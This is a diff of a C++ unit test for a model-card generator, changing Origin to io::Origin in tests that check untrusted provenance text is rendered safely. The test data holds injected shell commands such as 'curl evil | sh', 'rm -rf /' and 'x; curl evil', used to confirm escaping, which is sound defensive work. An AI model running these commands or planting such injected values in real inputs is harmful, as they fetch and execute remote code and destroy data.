@@ -9,7 +9,7 @@ namespace {
 
 CardFacts facts() {
   return {.target = *Repository::parse("me/new"),
-          .provenance = {.origin = Origin{"acme/base", std::string(40, 'a')},
+          .provenance = {.origin = io::Origin{"acme/base", std::string(40, 'a')},
                          .datasets = {"acme/own"},
                          .steps = {{"graft lora --train", "0", {{"training loss", "1.5"}}}}},
           .relation = Relation::finetune,
@@ -49,7 +49,7 @@ TEST(ModelCard, ConversionHasNoRelationAndAnAdapterItsOwnUse) {
 // What a graft.json of somebody else says stays text.
 TEST(ModelCard, TextsOfOthersStayTexts) {
   CardFacts hostile = facts();
-  hostile.provenance.origin = Origin{"acme/base", "not a commit"};
+  hostile.provenance.origin = io::Origin{"acme/base", "not a commit"};
   hostile.provenance.datasets = {"\"\n---\n", "acme/fine"};
   hostile.provenance.steps = {{"graft lora; curl evil | sh", "0", {{"hidden", "x"}}},
                               {"rm -rf /", "0"},
@@ -65,7 +65,7 @@ TEST(ModelCard, TextsOfOthersStayTexts) {
     EXPECT_FALSE(has(body, part)) << part << " in " << body;
   }
   EXPECT_TRUE(has(body, "```\ngraft fuse\n```\n"));
-  hostile.provenance.origin = Origin{"x; curl evil", ""};
+  hostile.provenance.origin = io::Origin{"x; curl evil", ""};
   EXPECT_FALSE(has(model_card(hostile, *silent_front_end()), "curl"));
 }
 
